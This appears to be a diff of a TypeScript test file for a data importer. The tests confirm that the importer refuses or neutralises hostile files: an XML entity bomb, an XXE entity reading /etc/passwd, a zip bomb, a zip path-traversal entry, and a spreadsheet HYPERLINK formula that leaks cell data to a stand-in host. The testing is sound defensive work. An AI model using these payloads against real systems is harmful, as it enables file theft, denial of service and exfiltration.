@@ -44,15 +44,37 @@ describe('a file of these is refused with a sentence, and the file beside it is 
   const many = Array.from({ length: 5_000 }, (_, at) => `column_${at}`).join(',')
   const bookWithDoctype = (): Uint8Array => {
     const parts = unzipSync(workbook({ 'List 1': [['Child Unique ID', 'Gender']] }))
-    parts['xl/workbook.xml'] = strToU8(`<!DOCTYPE workbook [<!ENTITY a "ha">]>${Buffer.from(parts['xl/workbook.xml'] as Uint8Array).toString()}`)
+    parts['xl/workbook.xml'] = strToU8(
+      `<!DOCTYPE workbook [<!ENTITY a "ha">]>${Buffer.from(parts['xl/workbook.xml'] as Uint8Array).toString()}`,
+    )
     return zipSync(parts)
   }
 
   const cases: readonly [what: string, name: string, content: string | Uint8Array, found: RegExp][] = [
-    ['an XML file whose entities multiply a thousand million times', 'a.xml', `<?xml version="1.0"?>\n${laughs}\n<Message>&j;</Message>`, /^The file has a DOCTYPE/],
-    ['an XML file that fetches another', 'a.xml', '<!DOCTYPE m [<!ENTITY a SYSTEM "file:///etc/passwd">]><Message>&a;</Message>', /^The file has a DOCTYPE/],
-    ['a zip that unpacks to a thousand times its size', 'a.zip', zipSync({ 'ssd_person.csv': new Uint8Array(32 * 1024 * 1024) }, { level: 9 }), /more than 200 times its packed size/],
-    ['a zip whose entry would lie outside it', 'a.zip', zipSync({ '../../escaped.csv': strToU8(good) }), /^A name in this zip points outside the zip\.$/],
+    [
+      'an XML file whose entities multiply a thousand million times',
+      'a.xml',
+      `<?xml version="1.0"?>\n${laughs}\n<Message>&j;</Message>`,
+      /^The file has a DOCTYPE/,
+    ],
+    [
+      'an XML file that fetches another',
+      'a.xml',
+      '<!DOCTYPE m [<!ENTITY a SYSTEM "file:///etc/passwd">]><Message>&a;</Message>',
+      /^The file has a DOCTYPE/,
+    ],
+    [
+      'a zip that unpacks to a thousand times its size',
+      'a.zip',
+      zipSync({ 'ssd_person.csv': new Uint8Array(32 * 1024 * 1024) }, { level: 9 }),
+      /more than 200 times its packed size/,
+    ],
+    [
+      'a zip whose entry would lie outside it',
+      'a.zip',
+      zipSync({ '../../escaped.csv': strToU8(good) }),
+      /^A name in this zip points outside the zip\.$/,
+    ],
     ['a zip cut short', 'a.zip', zipSync({ 'ssd_person.csv': strToU8(good) }).subarray(0, 60), /^This zip is damaged or cut short\.$/],
     ['a PDF called CSV', 'a.csv', '%PDF-1.7\n%âãÏÓ\n1 0 obj\n', /^a PDF document$/],
     ['a picture called XML', 'a.xml', pixel, /holds NUL bytes/],
@@ -102,7 +124,15 @@ describe('a file of these is refused with a sentence, and the file beside it is 
 
 describe('what looks wrong and is read for what it is', () => {
   test('a workbook called CSV', async () => {
-    const told = await readAlone([folderOf({ 'a.csv': workbook({ Contacts: [['Child Unique ID', 'Gender', 'Ethnicity', 'Date of Birth', 'Age of Child (Years)', 'Date of Contact', 'Contact Source']] }) })])
+    const told = await readAlone([
+      folderOf({
+        'a.csv': workbook({
+          Contacts: [
+            ['Child Unique ID', 'Gender', 'Ethnicity', 'Date of Birth', 'Age of Child (Years)', 'Date of Contact', 'Contact Source'],
+          ],
+        }),
+      }),
+    ])
     expect(told).toMatchObject([{ path: 'a.csv', format: 'Annex A', refused: [] }])
   })
 
@@ -127,7 +157,9 @@ describe('what looks wrong and is read for what it is', () => {
     const bytes = Buffer.concat([Buffer.from(csv([person('1', { pers_forename: 'Zo#' }), person('2', { pers_forename: 'Zo#' })]))])
     for (let at = bytes.indexOf('#'); at >= 0; at = bytes.indexOf('#', at + 1)) bytes[at] = 0xeb
     await bring(database, { 'ssd_person.csv': bytes })
-    expect(await database.transaction(acting('reads'), (tx) => tx.query('select distinct forename from person'))).toEqual([{ forename: 'Zoë' }])
+    expect(await database.transaction(acting('reads'), (tx) => tx.query('select distinct forename from person'))).toEqual([
+      { forename: 'Zoë' },
+    ])
   })
 })
 
@@ -137,7 +169,9 @@ describe('no more than 600 MB of memory is taken, whatever the file', () => {
   /** Reads it in a process of its own, whose own letters and objects may take 256 MB. */
   async function readInMemory(paths: readonly string[]): Promise<ReadInMemory> {
     const program = join(import.meta.dirname, 'read-alone.ts')
-    const { stdout } = await promisify(execFile)(process.execPath, ['--max-old-space-size=256', '--import', 'tsx', program, ...paths], { maxBuffer: 64 * mebibyte })
+    const { stdout } = await promisify(execFile)(process.execPath, ['--max-old-space-size=256', '--import', 'tsx', program, ...paths], {
+      maxBuffer: 64 * mebibyte,
+    })
     const read = JSON.parse(stdout) as ReadInMemory
     expect(read.most).toBeGreaterThan(30)
     expect(read.most).toBeLessThan(600)
@@ -157,8 +191,22 @@ describe('no more than 600 MB of memory is taken, whatever the file', () => {
   test.each([
     ['one row', 'a.csv', 'pers_person_id,pers_surname\n', 'x', 'A row that begins here is longer than 8,388,608 characters.', 2],
     ['one header', 'a.csv', '', 'x', 'A row that begins here is longer than 8,388,608 characters.', 1],
-    ['one cell whose quotation mark never closes', 'a.csv', 'pers_person_id,pers_surname\n1,"', 'Reed\n', 'A row that begins here is longer than 8,388,608 characters.', 2],
-    ['one XML element', 'a.xml', '<Message>\n<Header><CollectionDetails><Collection>CIN</Collection></CollectionDetails></Header><Children><Child>', '<a>text</a>', 'The element "Child" that begins here holds more than 8,388,608 characters.', 2],
+    [
+      'one cell whose quotation mark never closes',
+      'a.csv',
+      'pers_person_id,pers_surname\n1,"',
+      'Reed\n',
+      'A row that begins here is longer than 8,388,608 characters.',
+      2,
+    ],
+    [
+      'one XML element',
+      'a.xml',
+      '<Message>\n<Header><CollectionDetails><Collection>CIN</Collection></CollectionDetails></Header><Children><Child>',
+      '<a>text</a>',
+      'The element "Child" that begins here holds more than 8,388,608 characters.',
+      2,
+    ],
   ])('300 MB of %s', async (_what, name, beginning, piece, found, line) => {
     const { told } = await readInMemory([fileOf(beginning, piece, 300 * mebibyte, name)])
     told.forEach(expectSentences)
@@ -194,7 +242,11 @@ describe('brought in to a database', () => {
     expect(whole[0]?.stated).toBeGreaterThan(20)
 
     const cut = census.slice(0, census.lastIndexOf('</Child>') - 200)
-    const { files } = await bring(database, { 'a.zip': zipSync({ 'a.csv': strToU8(good) }).subarray(0, 60), 'census.xml': cut, 'ssd_person.csv': good })
+    const { files } = await bring(database, {
+      'a.zip': zipSync({ 'a.csv': strToU8(good) }).subarray(0, 60),
+      'census.xml': cut,
+      'ssd_person.csv': good,
+    })
     const [zip, refused, brought] = ['a.zip', 'census.xml', 'ssd_person.csv'].map((name) => files.find(({ path }) => path === name))
     expect(zip).toMatchObject({ added: 0, refused: [{ found: 'This zip is damaged or cut short.' }] })
     expect(refused).toMatchObject({ added: 0, changed: 0, withdrawn: 0 })
@@ -207,7 +259,13 @@ describe('brought in to a database', () => {
   test('a formula in a cell is kept as the text it is, and is made safe where refused rows are saved', async () => {
     const { database } = await freshForOneTest('embedded')
     const formula = '=HYPERLINK("https://harm.example/?"&A1,"Open")'
-    await bring(database, { 'ssd_person.csv': csv([person('1', { pers_surname: formula }), person('2', { pers_dob: formula }), person('3', { pers_sex: '@SUM(A1)' })]) })
+    await bring(database, {
+      'ssd_person.csv': csv([
+        person('1', { pers_surname: formula }),
+        person('2', { pers_dob: formula }),
+        person('3', { pers_sex: '@SUM(A1)' }),
+      ]),
+    })
     const [held, saved] = await database.transaction(acting('reads'), async (tx) => {
       const [made] = await tx.query<{ id: string }>('select id from import')
       const stream = await refusedCsv(tx, made?.id as string)
@@ -223,13 +281,31 @@ describe('brought in to a database', () => {
 
   test('values a database cannot hold are refused with their row, and the import goes on', async () => {
     const { database } = await freshForOneTest('embedded')
-    const address = (id: string, json: string) => ({ addr_table_id: id, addr_person_id: '1', addr_address_type: 'Home', addr_address_start_date: '2015-01-01', addr_address_json: json })
+    const address = (id: string, json: string) => ({
+      addr_table_id: id,
+      addr_person_id: '1',
+      addr_address_type: 'Home',
+      addr_address_start_date: '2015-01-01',
+      addr_address_json: json,
+    })
     const { files } = await bring(database, {
-      'ssd_person.csv': csv([person('1'), person('2', { pers_surname: 'x'.repeat(900_000) }), person('3', { pers_dob: `2008-05-01${'9'.repeat(5_000)}` })]),
-      'ssd_address.csv': csv([address('A1', '{"STREET":"Ropewalk"}'), address('A2', '{"STREET":"\\u0000"}'), address('A3', `{"STREET":${'['.repeat(200_000)}${']'.repeat(200_000)}}`), address('A4', '{"STREET":"\\ud800"}')]),
+      'ssd_person.csv': csv([
+        person('1'),
+        person('2', { pers_surname: 'x'.repeat(900_000) }),
+        person('3', { pers_dob: `2008-05-01${'9'.repeat(5_000)}` }),
+      ]),
+      'ssd_address.csv': csv([
+        address('A1', '{"STREET":"Ropewalk"}'),
+        address('A2', '{"STREET":"\\u0000"}'),
+        address('A3', `{"STREET":${'['.repeat(200_000)}${']'.repeat(200_000)}}`),
+        address('A4', '{"STREET":"\\ud800"}'),
+      ]),
     })
     for (const { path, refused } of files) for (const each of refused) expect(`${each.why} ${each.found}`.length, path).toBeLessThan(1_000)
     expect(files.find(({ path }) => path === 'ssd_person.csv')).toMatchObject({ added: 2, refused: [{ line: 4 }] })
-    expect(files.find(({ path }) => path === 'ssd_address.csv')).toMatchObject({ added: 1, refused: [{ line: 3 }, { line: 4 }, { line: 5 }] })
+    expect(files.find(({ path }) => path === 'ssd_address.csv')).toMatchObject({
+      added: 1,
+      refused: [{ line: 3 }, { line: 4 }, { line: 5 }],
+    })
   })
 })
